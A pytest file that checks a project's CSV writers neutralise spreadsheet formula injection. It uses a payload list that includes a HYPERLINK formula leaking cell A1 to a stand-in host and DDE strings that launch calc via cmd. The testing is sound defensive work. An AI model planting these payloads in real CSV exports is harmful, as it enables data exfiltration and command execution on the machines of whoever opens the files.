"""CSV formula injection (issue 20.4): every CSV the project writes, opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmtraining.core.csvout import FORMULA_TRIGGERS, frame_to_csv, neutralise, restore, to_csv

PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"premio")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def dangerous(cell: str) -> bool:
    """What a spreadsheet would run: a cell starting with a formula character."""
    return cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    rows = cells(to_csv(["a", "b"], [[payload, "ok"]]))
    assert rows[1] == ["'" + payload, "ok"]
    assert restore(rows[1][0]) == payload


@pytest.mark.parametrize("text", ["'=1+1", "''@x", "'", "'a", "''", "@", "'-", "it's"])
def test_restore_gives_back_exactly_what_was_written(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_TRIGGERS)


def test_numbers_stay_numbers_and_every_text_cell_is_quoted():
    text = to_csv(["n", "x", "t"], [[-2.5, 3, "Hola; adiós"], [None, True, ""]])
    assert text.splitlines()[1] == '-2.5,3,"Hola; adiós"'  # a ; never splits a cell
    assert text.splitlines()[2] == '"","True",""'
    assert neutralise(-7) == -7 and neutralise("-7") == "'-7"


@given(st.lists(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",)) | st.sampled_from(
    ["'", "=", "+", "-", "@", "\t", "\r", "\n", ",", ";", '"']), max_size=30), min_size=1,
    max_size=4), max_size=6))
def test_property_no_cell_can_start_a_formula_and_restore_gives_the_text_back(rows):
    width = max((len(r) for r in rows), default=1)
    rows = [r + [""] * (width - len(r)) for r in rows]
    back = cells(to_csv([f"c{i}" for i in range(width)], rows))[1:]
    assert len(back) == len(rows)
    for got, want in zip(back, rows, strict=True):
        assert not any(dangerous(cell) for cell in got)
        assert [restore(cell) for cell in got] == want


def test_a_dataframe_keeps_its_numbers_dates_and_missing_values():
    import pandas as pd

    frame = pd.DataFrame({"text": ["=1+1", "hola"], "count": [-3, 4], "share": [0.5, None],
                          "at": pd.to_datetime(["2026-11-02 10:00", "2026-11-03 11:30"])})
    rows = cells(frame_to_csv(frame))
    assert rows == [["text", "count", "share", "at"],
                    ["'=1+1", "-3", "0.5", "2026-11-02 10:00:00"],
                    ["hola", "4", "", "2026-11-03 11:30:00"]]


# --- Each writer of the project ------------------------------------------------------


def test_calendar_csv_neutralises_ideas_and_notes():
    from cmtraining.planning.export import calendar_to_csv
    from cmtraining.workbook.models import CalendarEntry

    entries = [CalendarEntry(day=date(2027, 2, 3), network="x", pillar="p0", idea=payload.strip(),
                             note="@everyone")
               for payload in PAYLOADS[:4]]
    rows = cells(calendar_to_csv(entries, lang="en", pillar_names={"p0": "+Pillar"}))
    assert not any(dangerous(cell) for row in rows for cell in row)
    assert sorted(restore(r[6]) for r in rows[1:]) == sorted(p.strip() for p in PAYLOADS[:4])
    assert {r[4] for r in rows[1:]} == {"'+Pillar"}


def test_gradebook_csv_neutralises_trainee_ids_and_reasons():
    from cmtraining.grading.gradebook import Gradebook

    row = {"exercise_id": "demo", "exercise_version": 1, "trainee_id": "=cmd", "status": "error",
           "reason": "-2+3+cmd|' /C calc'!A0", "score": None, "manual": -1.5, "total": -1.5,
           "max_points": 10, "checks": [{"check_id": "statement", "points": -1.5}],
           "graded_at": datetime(2026, 11, 23, 10, tzinfo=UTC)}
    book = Gradebook.__new__(Gradebook)  # export_csv reads only the rows it is given
    rows = cells(book.export_csv(rows=[row]))
    assert rows[0][:3] == ["exercise", "version", "trainee"]
    assert rows[1][2] == "'=cmd" and rows[1][4] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[1][6] == "-1.5" and rows[1][9] == "-1.5"  # points stay numbers


def test_cli_labels_and_mentions_exports_are_neutralised(tmp_path, workspace):
    from cmtraining.workbook import update
    from tests.conftest import run_cli

    wb = tmp_path / "w.yaml"
    run_cli("new", "--org", "cafe", "--out", str(wb))
    update(wb, lambda w: {**w.model_dump(), "mention_labels": [
        {"mention_id": f"m{i:05d}", "text": p, "sentiment": "negative"}
        for i, p in enumerate(p.strip() for p in PAYLOADS[:4])]})
    out = tmp_path / "labels.csv"
    assert run_cli("export", "labels", str(wb), "--out", str(out)).returncode == 0
    rows = cells(out.read_text(encoding="utf-8"))
    assert rows[0] == ["text", "label"] and len(rows) == 5
    assert not any(dangerous(cell) for row in rows for cell in row)
    assert [restore(r[0]) for r in rows[1:]] == [p.strip() for p in PAYLOADS[:4]]

    inbox = tmp_path / "inbox.csv"
    assert run_cli("export", "mentions", "--org", "cafe", "--out", str(inbox),
                   "--days", "14").returncode == 0
    rows = cells(inbox.read_text(encoding="utf-8"))
    assert len(rows) > 50 and "text" in rows[0]
    assert not any(dangerous(cell) for row in rows for cell in row)
